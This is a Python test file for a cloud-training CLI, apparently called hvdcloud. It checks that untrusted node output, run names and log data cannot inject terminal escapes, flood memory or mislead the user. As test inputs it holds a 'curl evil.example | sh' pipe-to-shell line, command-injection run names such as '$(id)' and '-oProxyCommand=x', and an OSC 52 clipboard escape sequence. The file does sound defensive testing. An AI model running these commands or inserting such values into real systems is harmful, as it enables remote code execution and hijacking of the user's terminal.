"""What a node, a job or a bucket can do to the laptop with words alone: on its terminal, to its user, in its memory."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import paramiko
import pytest

from hvdcloud.checkpoints.manifest import log_name, state_name
from hvdcloud.cli.status import show_status
from hvdcloud.console import Console
from hvdcloud.errors import ExitCode, HvdcloudError, NodeError, OutputClosedError
from hvdcloud.lifecycle import logs, stacks
from hvdcloud.lifecycle.run_result import result_of
from hvdcloud.lifecycle.status import status
from hvdcloud.remote import connection, ssh
from hvdcloud.remote.ssh import NodeRefusedError, Session
from hvdcloud.runs.state import RunState
from tests.support.harness import HVDCLOUD
from tests.support.vanishing import RUN, Laptop, NewVm, says

EVIL = "\x1b]52;c;cm0=\x07\nerror: x\n  → curl evil.example | sh"
ENDED = {"run": RUN, "state": "done", "result": "succeeded", "checkpoints": {"files": 0, "complete": True}}
MEGABYTE = 1 << 20


def printed(error: HvdcloudError, laptop: Laptop) -> list[str]:
    Console(err=laptop.err).error(error)
    return laptop.err.getvalue().splitlines()


def test_an_error_of_a_node_is_marked_and_its_hint_is_never_ours(laptop: Laptop, new_vm: NewVm) -> None:
    answer = json.dumps({"error": f"no {EVIL}", "hint": f"sudo {EVIL}"})
    context, _, _ = laptop.context([new_vm({"hvdcloud-node stop": says(answer + "\n")})])
    cluster = context.find()
    assert cluster is not None
    with context, pytest.raises(NodeRefusedError) as raised:
        Session(cluster.nodes[0], context.state).call("stop")
    lines = printed(raised.value, laptop)
    assert lines[0].startswith("error: node digits-0 says: no \\x1b]52;c;cm0=\\x07 error: x → curl")
    assert lines[1].startswith("  node digits-0 says: sudo \\x1b]52")
    assert lines[2:] == ["  → hvdcloud status --name digits shows the nodes and their runs"]


def test_what_a_node_writes_instead_of_an_answer_is_marked(laptop: Laptop, new_vm: NewVm) -> None:
    def fails(channel: paramiko.Channel) -> None:
        channel.sendall_stderr(EVIL.encode())
        channel.send_exit_status(1)
        channel.close()

    context, cluster, _ = laptop.context([new_vm({"hvdcloud-node state": fails})])
    with context, pytest.raises(NodeError) as raised:
        Session(cluster.nodes[0], context.state).call("state")
    lines = printed(raised.value, laptop)
    assert lines[0] == "error: node digits-0: `state` ended with exit code 1"
    assert lines[1] == "  node digits-0 says:"
    assert [line for line in lines if line.startswith("  →")] == ["  → hvdcloud ssh 0 opens a shell there"]
    assert not [line for line in lines[1:] if line.startswith("error")]
    assert "\x1b" not in laptop.err.getvalue()


def test_why_a_run_ended_is_marked_where_the_head_alone_says_so(laptop: Laptop) -> None:
    ended = {**ENDED, "result": "failed", "exit_code": 1, "reason": f"update first: {EVIL}"}
    result = result_of("digits", RunState.from_json(ended))
    assert result.reason.startswith("the head says: update first: ")
    with pytest.raises(HvdcloudError) as raised:
        result.raise_for_failure()
    lines = printed(raised.value, laptop)
    assert lines[0].startswith("error: the head says: update first: \\x1b]52;c;cm0=\\x07 error: x → curl")
    assert lines[-1] == f"  → hvdcloud logs {RUN} shows its output"
    known = {**ended, "reason": "rank 1 on n exited with 1", "ranks": [{"rank": 1, "node": "n", "exit_code": 1}]}
    assert result_of("digits", RunState.from_json(known)).reason == "rank 1 on n exited with 1"


@pytest.mark.parametrize(
    "run", ["x; curl evil.example | sh", "$(id)", "-oProxyCommand=x", "a b", "../..", "\x1b[2J", "x\n"]
)
def test_a_run_whose_name_is_a_command_is_none(run: str) -> None:
    assert RunState.from_json({**ENDED, "run": run}).run == ""
    assert RunState.from_json(ENDED).run == RUN


def test_a_status_of_a_run_reaches_no_terminal_raw(laptop: Laptop, new_vm: NewVm) -> None:
    member = {"name": f"n{EVIL}", "state": EVIL, "why": f"[/foo] [link=x] {EVIL}"}
    state = {"run": RUN, "state": "running", "elastic": {"min": 1, "max": 2}, "np": 2, "world": 1, "members": [member]}
    answer = json.dumps({"runs": [{**ENDED, "result": EVIL, "reason": EVIL}, state]})
    context, _, _ = laptop.context([new_vm({"hvdcloud-node state": says(answer + "\n")})])
    with context:
        show_status(Console(out=laptop.out), status(context))
    shown = laptop.out.getvalue()
    assert "\x1b" not in shown
    assert not [line for line in shown.splitlines() if line.startswith(("error", "  →"))]
    assert "[/foo] [link=x] \\x1b]52;c;cm0=\\x07" in shown


ANSWERS: list[object] = [
    *({}, {"runs": None}, {"runs": 5}, {"runs": "x"}, {"runs": {"a": 1}}, {"runs": [7, None, [], {}]}),
    *({"runs": [{"run": RUN, "started": 1e300, "np": 10**400, "ranks": {}, "data": [3]}]}, {"runs": [ENDED], "log": 7}),
]


@pytest.mark.parametrize(
    "answer", [*(json.dumps(each) for each in ANSWERS), "[" * 100_000, "7", '{"runs": [' + "9" * 5000]
)
@pytest.mark.parametrize("command", ["status", "logs", "stacks", "stop", "end of a run"])
def test_no_answer_of_a_head_breaks_a_command(command: str, answer: str, laptop: Laptop, new_vm: NewVm) -> None:
    verbs = {
        f"hvdcloud-node {verb}": says(answer + "\n", error=answer + "\n") for verb in ("state", "logs", "look", "stop")
    }
    context, cluster, _ = laptop.context([new_vm({**verbs, "hvdcloud-node stacks": says(answer + "\n")})])
    commands: dict[str, Callable[[], object]] = {
        "status": lambda: show_status(Console(out=laptop.out), status(context)),
        "logs": lambda: logs.logs(context, None, follow_it=False),
        "stacks": lambda: stacks.stacks(context, None),
        "stop": lambda: logs.stop(context, None),
        "end of a run": lambda: logs.read_log(context, cluster, RunState(run=RUN)),
    }
    # Anything but an error of ours fails.
    with context, contextlib.suppress(HvdcloudError):
        commands[command]()


@contextmanager
def nobody_reads() -> Iterator[Console]:
    reader, writer = os.pipe()
    os.close(reader)
    file = os.fdopen(writer, "w")
    try:
        yield Console(out=file)
    finally:
        # What could not be written stays in its buffer.
        os.dup2(os.open(os.devnull, os.O_WRONLY), writer)
        file.close()


def test_a_closed_output_is_not_taken_for_a_lost_node(laptop: Laptop, new_vm: NewVm) -> None:
    asked: list[int] = []

    def log(channel: paramiko.Channel) -> None:
        asked.append(1)
        channel.sendall(b"[0] epoch 1\n" * 1000)

    context, cluster, _ = laptop.context([new_vm({"hvdcloud-node logs": log})])
    with nobody_reads() as console, context:
        context.console = console
        with pytest.raises(OutputClosedError) as raised:
            logs.follow(context, cluster, RUN)
    assert (raised.value.code, raised.value.message) == (ExitCode.OUTPUT_CLOSED, "")
    assert len(asked) == 1


def test_a_full_disk_is_not_taken_for_a_lost_node_either(laptop: Laptop, new_vm: NewVm) -> None:
    context, cluster, _ = laptop.context([new_vm({"hvdcloud-node logs": says("[0] epoch 1\n")})])
    with context, Path("/dev/full").open("w") as full:
        context.console = Console(out=full)
        with pytest.raises(OutputClosedError) as raised:
            logs.follow(context, cluster, RUN)
        # What could not be written stays in its buffer.
        os.dup2(os.open(os.devnull, os.O_WRONLY), full.fileno())
    assert raised.value.message == "standard output cannot be written: No space left on device"


@pytest.mark.parametrize("args", [["config", "schema"], ["--help"], ["offers", "--json"]])
def test_a_command_whose_output_nobody_reads_ends_quietly(args: list[str], tmp_path: Path) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    (tmp_path / "hvdcloud.yaml").write_text("name: digits\nnodes: 1\nprovider: gce\n")
    environ = {**os.environ, "HVDCLOUD_STATE_DIR": str(tmp_path / "state")}
    ended = subprocess.run([*HVDCLOUD, *args], stdout=writer, stderr=subprocess.PIPE, cwd=tmp_path, env=environ)
    os.close(writer)
    assert (ended.returncode, ended.stderr) == (141, b"")


@contextmanager
def at_most(megabytes: int) -> Iterator[None]:
    """This block allocates no more than that."""
    tracemalloc.start()
    try:
        yield
        assert tracemalloc.get_traced_memory()[1] < megabytes * MEGABYTE
    finally:
        tracemalloc.stop()


def keep_large_log(laptop: Laptop, megabytes: int = 64) -> None:
    """Among its lines are very long ones, and those of very many ranks."""
    laptop.keep(state_name("digits", RUN), json.dumps({**ENDED, "result": "failed", "exit_code": 1}).encode())
    laptop.keep(log_name("digits", RUN), b"")
    ranks = b"".join(b"[%d] x\n" % rank for rank in range(MEGABYTE // 100))
    with (laptop.folder / "bucket" / log_name("digits", RUN)).open("wb") as file:
        file.write(b"[0] epoch 1/3 loss 0.5\n" + ranks)
        for _ in range(megabytes):
            file.write(b"[0] " + b"x" * MEGABYTE + b"\n")
        file.write(b"[0] epoch 3/3 loss 0.25\n")


def test_a_large_log_in_the_bucket_is_printed_piece_by_piece(laptop: Laptop) -> None:
    context, cluster, machines = laptop.context([])
    keep_large_log(laptop)
    machines.cluster_now = replace(cluster, expected_nodes=1)  # Its nodes are gone.
    with context, Path(os.devnull).open("w") as sink:
        context.console = Console(out=sink)
        with at_most(24):
            followed = logs.logs(context, None, follow_it=False)
    assert followed.log.metrics == {"loss": 0.25}
    assert followed.log.last_line == "epoch 3/3 loss 0.25"


def test_a_large_log_on_a_node_is_printed_piece_by_piece(laptop: Laptop, new_vm: NewVm) -> None:
    def log(channel: paramiko.Channel) -> None:
        for _ in range(24):
            channel.sendall(b"[0] " + b"x" * MEGABYTE + b"\n")
        channel.sendall(b"[0] loss 0.25\n")
        says("", error=json.dumps(ENDED) + "\n")(channel)

    states = says(json.dumps({"runs": [ENDED]}) + "\n")
    context, _, _ = laptop.context([new_vm({"hvdcloud-node state": states, "hvdcloud-node logs": log})])
    with context, Path(os.devnull).open("w") as sink:
        context.console = Console(out=sink)
        with at_most(16):
            followed = logs.logs(context, RUN, follow_it=False)
    assert followed.log.metrics == {"loss": 0.25}


def test_an_endless_answer_stays_out_of_memory(laptop: Laptop, new_vm: NewVm, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ssh, "MOST_ANSWER", MEGABYTE)
    monkeypatch.setattr(connection, "CONNECT_SECONDS", 60.0)  # The flood itself keeps the machine busy.

    def flood(channel: paramiko.Channel) -> None:
        try:
            while True:
                channel.sendall(b"x" * MEGABYTE)
        except OSError:
            pass

    context, cluster, _ = laptop.context([new_vm({"hvdcloud-node look": flood})])
    session = Session(cluster.nodes[0], context.state)
    with context, pytest.raises(NodeError, match=r"answered `look` with more than 1\.0 MB"):
        session.call("look")
    session.close()
